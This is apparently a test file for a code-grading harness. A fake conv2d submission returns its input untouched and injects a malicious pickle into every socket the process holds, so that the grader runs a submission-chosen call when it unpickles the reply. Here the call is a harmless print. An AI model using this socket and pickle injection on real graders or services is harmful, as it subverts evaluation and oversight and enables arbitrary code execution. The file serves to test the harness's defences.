# expect: crash
# attack: The header of a reply is a pickle that runs a command when it is opened.
import os
import pickle
import stat
import struct


def sockets():
    """Descriptors of every socket that this process holds."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            continue


def inject(data):
    for descriptor in sockets():
        rest = data
        while rest:
            try:
                rest = rest[os.write(descriptor, rest) :]
            except BlockingIOError:
                continue  # the judge has not read the first part yet
            except OSError:
                break


class Command:
    def __reduce__(self):
        return print, ("the grader has unpickled what a submission sent",)


def conv2d(x, w):
    data = pickle.dumps(Command())
    inject(struct.pack(">I", len(data)) + data)
    return x
